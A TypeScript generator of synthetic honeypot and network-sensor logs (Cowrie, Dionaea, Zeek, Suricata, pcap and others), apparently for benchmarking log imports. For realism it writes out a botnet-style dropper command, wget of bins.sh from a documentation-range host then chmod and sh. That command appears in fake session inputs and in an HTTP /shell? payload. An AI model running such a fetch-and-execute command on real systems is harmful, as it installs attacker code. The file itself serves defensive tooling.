// Logs of any length to measure imports with, in each format, the same for the same length: sources and ports as uneven as a
// sensor's, the lines of many sessions mixed. Made piece by piece, never held as a whole.

import { renderMicros } from '../../base/clock.ts';
import { FlowFrames, frameEnd, sequencesOf } from '../../model/flow-frames.ts';

/** 2022-05-28. */
const firstAt = 1_653_696_000_000_000;
const microsPerLine = 1500;
/** Sessions whose lines are mixed. */
const together = 64;
const pieceBytes = 64 * 1024;

/** The next line of a session; undefined when it has no more. */
type Talk = Generator<(at: number) => string | Buffer, void, void>;
/** What one session says: its number, and where it comes from and goes to. */
type Script = (number: number, source: string, port: number) => Talk;

/** A few sources of 4,900 make most of the traffic. */
function sourceOf(number: number): string {
  const spread = (Math.imul(number, 2_654_435_761) >>> 0) / 2 ** 32;
  const index = Math.floor(4900 * spread ** 3);
  return `198.18.${index >> 8}.${index & 255}`;
}

const common = [445, 23, 22, 80, 6379, 5555, 443, 8080, 3389, 5038];
const portOf = (number: number): number =>
  number % 3 === 0 ? 1 + ((Math.imul(number, 40_503) >>> 0) % 65_535) : common[(number >> 2) % common.length];

const decoy = '198.51.100.7';
const iso = (at: number): string => renderMicros(at);
const sensor = 'bench';
const session = (number: number): string => number.toString(16).padStart(12, '0');
const password = (number: number): string => `pass${number % 997}`;
const command = (number: number): string =>
  `cd /tmp || cd /var/run; wget http://203.0.113.${number % 250}/bins.sh; chmod 777 bins.sh; sh bins.sh ${number % 7}`;

function* cowrie(number: number, source: string): Talk {
  const facts = { session: session(number), src_ip: source, sensor };
  const line = (event: string, more: object) => (at: number) =>
    JSON.stringify({ eventid: `cowrie.${event}`, ...more, ...facts, timestamp: iso(at) });
  yield line('session.connect', { src_port: 1024 + (number % 60_000), dst_ip: decoy, dst_port: 22, protocol: 'ssh' });
  yield line('client.version', { version: 'SSH-2.0-Go', message: 'Remote SSH version: SSH-2.0-Go' });
  yield line('client.kex', {
    hassh: '92674389fa1e47a27ddd8d9b63ecd42b',
    kexAlgs: ['a'],
    encCS: ['b'],
    macCS: ['c'],
    compCS: ['none'],
  });
  for (let attempt = 0; attempt < 1 + (number % 4); attempt += 1)
    yield line('login.failed', { username: 'root', password: password(number + attempt), message: 'login attempt failed' });
  if (number % 10 === 0) {
    yield line('login.success', { username: 'root', password: password(number) });
    yield line('command.input', { input: command(number), message: 'CMD' });
    yield line('session.file_download', { url: `http://203.0.113.${number % 250}/bins.sh`, shasum: 'ab'.repeat(32) });
  }
  yield line('session.closed', { duration: 4.5, message: 'Connection lost after 4 seconds' });
}

function* adbhoney(number: number, source: string): Talk {
  const facts = { session: session(number), src_ip: source, sensor };
  const line = (event: string, more: object) => (at: number) =>
    JSON.stringify({ eventid: `adbhoney.${event}`, ...more, ...facts, timestamp: iso(at), unixtime: Math.floor(at / 1e6) });
  yield line('session.connect', { src_port: 1024 + (number % 60_000), dest_ip: decoy, dest_port: '5555' });
  yield line('command.input', { input: command(number) });
  yield line('session.closed', { duration: '45.10' });
}

/** 70 % say nothing. */
const payloadOf = (number: number): Buffer =>
  number % 10 < 7 ? Buffer.alloc(0) : Buffer.from(`GET /shell?${command(number)} HTTP/1.1\r\nHost: ${decoy}\r\n\r\n`);

function* honeytrap(number: number, source: string, port: number): Talk {
  const bytes = payloadOf(number);
  const nothing = { md5_hash: '0'.repeat(32), sha512_hash: '0'.repeat(128), length: 0, data_hex: '' };
  yield (at) =>
    JSON.stringify({
      is_virtual: false,
      '@timestamp': `${iso(at).slice(0, 19)}Z`,
      start_time: `${iso(at).slice(0, 19)}Z`,
      end_time: `${iso(at + 1e6).slice(0, 19)}Z`,
      attack_connection: {
        protocol: 'tcp',
        remote_ip: source,
        remote_port: 1024 + (number % 60_000),
        local_ip: decoy,
        local_port: port,
        payload: {
          md5_hash: session(number),
          sha512_hash: '0'.repeat(128),
          length: bytes.length,
          data_hex: bytes.toString('hex'),
        },
      },
      proxy_connection: {
        protocol: 'ip',
        remote_ip: '0.0.0.0',
        remote_port: 0,
        local_ip: '0.0.0.0',
        local_port: 0,
        payload: nothing,
      },
      operation_mode: 1,
      download_count: 0,
      download_tries: 0,
      downloads: {},
    });
}

/** Behind a REDIRECT: every session came to the sensor's own port; the packet filter knows better. */
function* tcppc(number: number, source: string): Talk {
  const bytes = payloadOf(number);
  yield (at) =>
    JSON.stringify({
      timestamp: iso(at),
      flow: { proto: 'tcp', src: source, sport: 1024 + (number % 60_000), dst: '10.0.0.5', dport: 12_345 },
      payloads: bytes.length === 0 ? [] : [{ index: 0, timestamp: iso(at + 50_000), data: bytes.toString('base64') }],
    });
}

function* netfilterLog(number: number, source: string, port: number): Talk {
  const mac = '02:00:00:00:00:01:02:00:00:00:00:99:08:00';
  const tuple = `SRC=${source} DST=${decoy} LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=${number % 65_536} DF PROTO=TCP SPT=${1024 + (number % 60_000)} DPT=${port}`;
  yield (at) =>
    `${iso(at).slice(0, 19)}+00:00 ${sensor} kernel: [${(at / 1e6 - firstAt / 1e6).toFixed(6)}] weir: IN=eth0 OUT= MAC=${mac} ${tuple} SEQ=${number} ACK=0 WINDOW=64240 RES=0x00 SYN URGP=0 `;
}

function* honeytrapGo(number: number, source: string, port: number): Talk {
  const flow = {
    'source-ip': source,
    'source-port': 1024 + (number % 60_000),
    'destination-ip': decoy,
    'destination-port': port,
  };
  const line = (more: object) => (at: number) =>
    JSON.stringify({
      category: 'ssh',
      sensor: 'services',
      token: sensor,
      ...flow,
      'ssh.sessionid': session(number),
      ...more,
      date: iso(at),
    });
  for (let attempt = 0; attempt < 3; attempt += 1)
    yield line({ type: 'password-authentication', 'ssh.username': 'root', 'ssh.password': password(number + attempt) });
}

function* dionaea(number: number, source: string, port: number): Talk {
  yield (at) =>
    JSON.stringify({
      connection: { protocol: number % 3 ? 'smbd' : 'mssqld', transport: 'tcp', type: 'accept' },
      dst_ip: decoy,
      dst_port: port,
      src_hostname: '',
      src_ip: source,
      src_port: 1024 + (number % 60_000),
      timestamp: iso(at).slice(0, -1),
      ...(number % 3 === 0 && { credentials: [{ username: 'sa', password: password(number) }] }),
    });
}

function* heralding(number: number, source: string, port: number): Talk {
  const attempts = Array.from({ length: number % 3 }, (_, index) => ({ username: 'admin', password: password(number + index) }));
  yield (at) =>
    JSON.stringify({
      timestamp: iso(at).slice(0, -1).replace('T', ' '),
      duration: number % 5,
      session_id: session(number),
      source_ip: source,
      source_port: 1024 + (number % 60_000),
      destination_ip: decoy,
      destination_port: port,
      protocol: number % 2 ? 'vnc' : 'pop3',
      num_auth_attempts: attempts.length,
      auth_attempts: attempts,
      session_ended: true,
      auxiliary_data: {},
    });
}

function* opencanary(number: number, source: string): Talk {
  const facts = { dst_host: decoy, dst_port: 22, node_id: sensor, src_host: source, src_port: 1024 + (number % 60_000) };
  const line = (logtype: number, logdata: object) => (at: number) =>
    JSON.stringify({ ...facts, logtype, logdata, utc_time: iso(at).slice(0, -1).replace('T', ' ') });
  yield line(4000, { SESSION: String(number) });
  yield line(4001, { LOCALVERSION: 'SSH-2.0-OpenSSH_5.1p1 Debian-4', REMOTEVERSION: 'SSH-2.0-Go' });
  for (let attempt = 0; attempt < 2; attempt += 1) yield line(4002, { USERNAME: 'root', PASSWORD: password(number + attempt) });
}

function* eve(number: number, source: string, port: number): Talk {
  const flow = {
    flow_id: 1e12 + number,
    src_ip: source,
    src_port: 1024 + (number % 60_000),
    dest_ip: decoy,
    dest_port: port,
    proto: 'TCP',
  };
  const line = (event_type: string, more: (at: number) => object) => (at: number) =>
    JSON.stringify({ timestamp: iso(at).replace('Z', '+0000'), event_type, ...flow, ...more(at) });
  const silent = number % 10 < 7;
  if (!silent) {
    const http = {
      hostname: decoy,
      url: `/shell?${number % 977}`,
      http_user_agent: 'x',
      http_method: 'GET',
      protocol: 'HTTP/1.1',
    };
    yield line('http', () => ({ app_proto: 'http', http }));
    yield line('alert', () => ({ alert: { gid: 1, signature_id: 2_019_401 + (number % 20), signature: 'a rule', severity: 1 } }));
  }
  yield line('flow', (at) => ({
    flow: {
      pkts_toserver: silent ? 1 : 6,
      pkts_toclient: silent ? 1 : 5,
      bytes_toserver: silent ? 60 : 700,
      bytes_toclient: silent ? 60 : 600,
      start: iso(at - 100_000).replace('Z', '+0000'),
      end: iso(at).replace('Z', '+0000'),
      state: 'closed',
      reason: 'timeout',
    },
    tcp: { tcp_flags_ts: silent ? '02' : '1b', tcp_flags_tc: silent ? '14' : '1b', state: 'closed' },
  }));
}

function* zeek(number: number, source: string, port: number): Talk {
  const silent = number % 10 < 7;
  yield (at) => {
    const facts = [source, 1024 + (number % 60_000), decoy, port, 'tcp', silent ? '-' : 'http'];
    const ending = silent ? ['-', '-', '-', 'S0', 'F', 'T', 0, 'S', 1] : ['1.25', 100, 2000, 'SF', 'F', 'T', 0, 'ShADadFf', 6];
    return [(at / 1e6).toFixed(6), `C${session(number)}`, ...facts, ...ending].join('\t');
  };
}

const zeekHeader = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\tconn',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts',
];

const scripts: Readonly<Record<string, { readonly script: Script; readonly header?: readonly string[] }>> = {
  tcppc: { script: tcppc },
  'netfilter-log': { script: netfilterLog },
  cowrie: { script: cowrie },
  adbhoney: { script: adbhoney },
  honeytrap: { script: honeytrap },
  'honeytrap-go': { script: honeytrapGo },
  dionaea: { script: dionaea },
  heralding: { script: heralding },
  opencanary: { script: opencanary },
  eve: { script: eve },
  zeek: { script: zeek, header: zeekHeader },
};

/** Formats there is a generator for. */
export const generatedFormats: readonly string[] = [...Object.keys(scripts), 'pcap', 'pcapng'];

/** So many units of many sessions, mixed. */
function* mixed(script: Script, count: number): Generator<string | Buffer> {
  const begin = (number: number): Talk => script(number, sourceOf(number), portOf(number));
  const talks = Array.from({ length: together }, (_, index) => begin(index));
  let next = together;
  let turn = 0;
  for (let made = 0; made < count; ) {
    turn = (turn + 37) % together;
    const { value } = talks[turn].next();
    if (value) {
      yield value(firstAt + made * microsPerLine);
      made += 1;
      continue;
    }
    talks[turn] = begin(next);
    next += 1;
  }
}

function* generateLines(format: string, lines: number): Generator<Buffer> {
  const { script, header = [] } = scripts[format];
  const first = header.slice(0, lines);
  let text = first.map((line) => `${line}\n`).join('');
  for (const line of mixed(script, lines - first.length)) {
    text += `${line}\n`;
    if (text.length < pieceBytes) continue;
    yield Buffer.from(text);
    text = '';
  }
  if (text !== '') yield Buffer.from(text);
}

/** A connection's frames, or its first alone: most clients only knock. */
const capture = (envelope: Envelope): Script =>
  function* (number, source, port) {
    const frames: Uint8Array[] = [];
    const client = frameEnd(source, 1024 + (number % 60_000), undefined, 60, 1);
    const server = frameEnd(decoy, port, undefined, 64, 2);
    if (!client || !server) return;
    const flow = new FlowFrames({ transport: 'tcp', client, server, sequences: sequencesOf(session(number)) }, (frame) =>
      frames.push(frame),
    );
    flow.begin(firstAt);
    if (number % 10 >= 7) {
      flow.chunk(firstAt, 'in', payloadOf(number));
      flow.chunk(firstAt, 'out', Buffer.from('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n'));
      flow.end(firstAt, 'client-fin');
    } else frames.length = 1;
    for (const frame of frames) yield (at) => envelope(frame, at);
  };

/** As libpcap writes it, little-endian, microseconds. */
function captureRecord(frame: Uint8Array, at: number): Buffer {
  const record = Buffer.alloc(16 + frame.length);
  record.writeUInt32LE(Math.floor(at / 1e6), 0);
  record.writeUInt32LE(at % 1e6, 4);
  record.writeUInt32LE(frame.length, 8);
  record.writeUInt32LE(frame.length, 12);
  record.set(frame, 16);
  return record;
}

/** One packet in its envelope: the bytes of a frame and when it passed. */
type Envelope = (frame: Uint8Array, at: number) => Buffer;

function pcapHeader(): Buffer {
  const header = Buffer.alloc(24);
  for (const [at, value] of [0xa1b2c3d4, 0x00040002, 0, 0, 262_144, 1].entries()) header.writeUInt32LE(value, at * 4);
  return header;
}

/** A block of pcapng: type, length, body on a boundary of 32 bits, length again. */
function pcapngBlock(type: number, body: Buffer): Buffer {
  const length = 12 + Math.ceil(body.length / 4) * 4;
  const block = Buffer.alloc(length);
  block.writeUInt32LE(type, 0);
  block.writeUInt32LE(length, 4);
  block.set(body, 8);
  block.writeUInt32LE(length, length - 4);
  return block;
}

/** A section of unknown length with one Ethernet interface, times in microseconds. */
const pcapngHeader = (): Buffer =>
  Buffer.concat([
    pcapngBlock(0x0a0d0d0a, Buffer.from('4d3c2b1a01000000ffffffffffffffff', 'hex')),
    pcapngBlock(1, Buffer.from('0100000000000400', 'hex')),
  ]);

function pcapngRecord(frame: Uint8Array, at: number): Buffer {
  const body = Buffer.alloc(20 + frame.length);
  body.writeUInt32LE(Math.floor(at / 2 ** 32), 4);
  body.writeUInt32LE(at % 2 ** 32, 8);
  body.writeUInt32LE(frame.length, 12);
  body.writeUInt32LE(frame.length, 16);
  body.set(frame, 20);
  return pcapngBlock(6, body);
}

const captures: Readonly<Record<string, { readonly header: () => Buffer; readonly envelope: Envelope }>> = {
  pcap: { header: pcapHeader, envelope: captureRecord },
  pcapng: { header: pcapngHeader, envelope: pcapngRecord },
};

function* generateCapture(format: string, packets: number): Generator<Buffer> {
  const { header, envelope } = captures[format];
  let parts: Buffer[] = [header()];
  let bytes = 0;
  for (const record of mixed(capture(envelope), packets)) {
    parts.push(record as Buffer);
    bytes += record.length;
    if (bytes < pieceBytes) continue;
    yield Buffer.concat(parts);
    parts = [];
    bytes = 0;
  }
  yield Buffer.concat(parts);
}

/** A log of exactly so many lines, or packets, in pieces; lines are whole in them. */
export const generateLog = (format: string, lines: number): Generator<Buffer> =>
  format in captures ? generateCapture(format, lines) : generateLines(format, lines);
